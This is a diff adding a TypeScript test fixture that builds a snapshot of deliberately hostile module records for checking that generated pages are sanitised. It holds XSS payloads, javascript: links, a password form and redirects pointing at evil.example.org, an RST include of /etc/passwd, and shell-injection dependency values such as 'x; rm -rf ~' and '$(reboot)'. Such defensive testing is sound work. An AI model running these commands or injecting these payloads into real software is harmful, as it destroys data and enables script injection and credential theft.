@@ -1,0 +1,111 @@
+// Modules of people who mean harm: markup in every text, descriptions that would run something, names
+// that would leave a shell's line. A snapshot of them is what pages are tried with.
+import { mkdir } from "node:fs/promises";
+import { publishSnapshot } from "../../builder/publish.js";
+import type { ModuleRecord } from "../../data/records.js";
+import { compareRecords } from "../../data/snapshot/encode.js";
+import { buildTermIndex } from "../../data/text/term-index.js";
+import { createContents, createRecord } from "./module-records.js";
+
+/** Sets a title where it runs, which tests look for; the tag itself is looked for too. */
+export const ATTACK = `"'><script>document.title="harmed"</script><img src=x onerror=document.title="harmed">`;
+
+export const HOSTILE_MARKDOWN = `# Title <script>document.title="harmed"</script>
+
+[a link](javascript:document.title="harmed") and [another](JaVaScRiPt:alert(1)) and [data](data:text/html,x)
+[inside](/metrics) [other host](//evil.example.org/x) [fine](https://example.org/fine)
+
+<img src="https://evil.example.org/track.png" onerror="document.title='harmed'" alt="a picture">
+<a href="https://example.org" onclick="document.title='harmed'" style="position:fixed;inset:0" id="q" class="button">x</a>
+<iframe src="https://evil.example.org"></iframe><object data="x"></object><embed src="x">
+<form action="https://evil.example.org"><input name="password"><button>Send</button></form>
+<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example.org/x.css">
+<svg><script>document.title="harmed"</script><a xlink:href="javascript:alert(1)">x</a></svg>
+<math><mtext><table><mglyph><style><img src=x onerror=document.title="harmed"></style></mglyph></table></mtext></math>
+<noscript><p title="</noscript><img src=x onerror=document.title='harmed'>"></noscript>
+<base href="https://evil.example.org/"><meta http-equiv="refresh" content="0;url=https://evil.example.org">
+</div></section></main><h1>Outside</h1>
+`;
+
+export const HOSTILE_RST = `Title
+=====
+
+.. raw:: html
+
+   <script>document.title="harmed"</script>
+
+.. include:: /etc/passwd
+
+.. image:: javascript:document.title="harmed"
+   :alt: " onerror="document.title='harmed'
+
+.. _name: javascript:document.title="harmed"
+
+\`text <javascript:document.title="harmed">\`_ and name_ and <script>document.title="harmed"</script>
+
+:raw-html:\`<img src=x onerror=document.title="harmed">\` and https://example.org/"onmouseover="x
+`;
+
+export const HOSTILE_RECORDS: readonly ModuleRecord[] = [
+  createRecord({
+    technical_name: "hostile_markdown",
+    name: ATTACK,
+    summary: ATTACK,
+    description: HOSTILE_MARKDOWN,
+    website: "javascript:document.title='harmed'",
+    license: ATTACK,
+    category: ATTACK,
+    authors: [ATTACK],
+    maintainers: [ATTACK],
+    committers: [ATTACK],
+    development_status: ATTACK,
+    source_path: ATTACK,
+    declared_dependencies: {
+      platform: ["hostile_rst", ATTACK],
+      pip: ["x; rm -rf ~", "$(reboot)"],
+      bin: ["-rf", "a b"],
+    },
+    dependencies: { platform: {}, pip: ["x; rm -rf ~", "$(reboot)"], bin: ["-rf", "a b"] },
+    unresolved_dependencies: [ATTACK],
+    views: [
+      {
+        xml_id: ATTACK,
+        name: ATTACK,
+        model: ATTACK,
+        inherit_xml_id: `x.${ATTACK}`,
+        is_new: true,
+        view_type: ATTACK,
+      },
+    ],
+    models: [
+      {
+        model_name: ATTACK,
+        class_name: ATTACK,
+        inherit_from: [ATTACK, "x"],
+        is_new_model: true,
+        docstring: ATTACK,
+        attrs: { kind: "Model", description: ATTACK },
+        fields: [
+          { name: ATTACK, field_type: ATTACK, relation: ATTACK, attrs: { [ATTACK]: ATTACK } },
+        ],
+        methods: [{ name: ATTACK, decorators: [ATTACK], signature: ATTACK, docstring: ATTACK }],
+      },
+    ],
+  }),
+  createRecord({ technical_name: "hostile_rst", name: "Rst", description: HOSTILE_RST }),
+  createRecord({
+    technical_name: "hostile_rst",
+    name: ATTACK,
+    platform_version: "16.0",
+    description: ATTACK,
+  }),
+];
+
+/** Writes the snapshot into `out`, without an embedder. */
+export async function writeHostileSnapshot(out: string): Promise<void> {
+  const contents = createContents(HOSTILE_RECORDS, {
+    terms: buildTermIndex(HOSTILE_RECORDS.toSorted(compareRecords)),
+  });
+  await mkdir(out, { recursive: true });
+  await publishSnapshot(contents, { out, program: "0.0.0-test" });
+}
